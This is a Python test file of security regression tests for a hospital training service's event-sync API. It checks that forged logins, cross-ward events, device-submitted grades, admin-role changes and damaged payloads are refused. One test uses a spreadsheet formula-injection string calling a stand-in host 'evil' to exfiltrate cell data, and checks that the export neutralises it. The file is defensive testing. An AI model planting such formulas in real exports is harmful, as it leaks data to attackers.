"""Attacks on trust (issue 16), by someone holding one ward PC's token: each test is one
finding and failed on the service before the hardening.

The PC is enrolled for ward-3 (N100, D100; A100 is an administrator, in every scope);
N200 is a nurse of ward-5 who never logged in there."""

from __future__ import annotations

import csv
from pathlib import Path

import httpx

from testkit.postgres import ServiceThread
from tests.server.wire import Device, read_event, stored


def test_a_forged_login_does_not_widen_the_scope_nor_list_the_roster(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    guesses = ["N200", "N201", "X999"]  # N200 exists (ward-5), the others do not
    forged = [pc.event("auth.login", s, s, {"workstation": "ward-3-pc"}) for s in guesses]
    answer = pc.push(forged)
    assert 400 <= answer.status_code < 500
    pull = pc.call("POST", "/v1/pull", {"after": 0}).json()
    assert "N200" not in pull["scope"]
    assert all(p["staff_id"] != "N200" for p in pull["roster"])
    assert stored(server_db) == []


def test_events_in_the_name_of_a_nurse_of_another_ward_are_refused(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    answer = pc.push([read_event(pc, "N200")])
    assert answer.status_code == 403
    assert stored(server_db) == []
    ward5 = Device(service.url, server_db, ("ward-5",))
    seen = ward5.call("POST", "/v1/pull", {"after": 0}).json()["events"]
    assert seen == []  # her own ward's PC shows nothing she did not do


def test_events_of_someone_in_scope_but_not_logged_in_there_are_refused(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    answer = pc.push([read_event(pc, "N100")])  # N100 is of ward-3, but never logged in
    assert answer.status_code == 403
    assert answer.json()["code"] == "push.not_logged_in"
    assert stored(server_db) == []


def test_an_unknown_event_type_is_refused_with_a_code(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    answer = pc.push([pc.event("exam.passed", "N100", "N100", {"module": "nurse"})])
    assert answer.status_code == 422
    assert answer.json()["code"] == "push.unknown_type"
    assert stored(server_db) == []


def test_result_events_are_refused_from_devices(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    graded = pc.event("exam.graded", None, "N100", {
        "attempt_id": "a1", "module": "nurse", "score": 9, "max_score": 9, "pass_mark": 80,
        "passed": True, "certifying": True})
    answer = pc.push([graded])
    assert answer.status_code == 403
    assert answer.json()["code"] == "push.result_event"
    assert stored(server_db) == []


def test_a_forged_audit_entry_by_an_administrator_is_refused(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    made_admin = pc.event("auth.staff_changed", "A100", "N100",
                          {"change": "roles", "roles": ["admin"]})
    answer = pc.push([made_admin])
    assert answer.status_code == 403
    assert stored(server_db) == []


def test_a_formula_as_actor_is_refused_and_neutralised_in_the_csv_export(
    service: ServiceThread, server_db: str, tmp_path: Path
) -> None:
    from trainer.auth.audit import AuditEntry, export_csv
    from trainer.auth.session import Session, StaffMember
    from trainer.vocabulary import Role

    pc = Device(service.url, server_db)
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    answer = pc.push([pc.event("auth.logout", formula, formula, {"workstation": "pc"})])
    assert 400 <= answer.status_code < 500
    assert stored(server_db) == []
    admin = Session(StaffMember("A100", "Admin", frozenset({Role.ADMIN}), (), True, False),
                    "pc")
    entries = [AuditEntry("2026-12-02T10:00:00.000Z", "auth.logout", formula, "+1", "@x",
                          "-dev")]
    export_csv(admin, entries, tmp_path / "audit.csv")
    with (tmp_path / "audit.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in rows[1])


def test_a_damaged_payload_under_an_administrator_is_refused(
    service: ServiceThread, server_db: str
) -> None:
    pc = Device(service.url, server_db)
    broken = pc.event("course.section_read", "A100", "A100", "{not json")
    answer = pc.push([broken])
    assert 400 <= answer.status_code < 500
    assert stored(server_db) == []
    other = Device(service.url, server_db, ("ward-5",))
    pulled = httpx.post(f"{service.url}/v1/pull", json={"after": 0}, headers=other.auth)
    assert pulled.status_code == 200 and pulled.json()["events"] == []
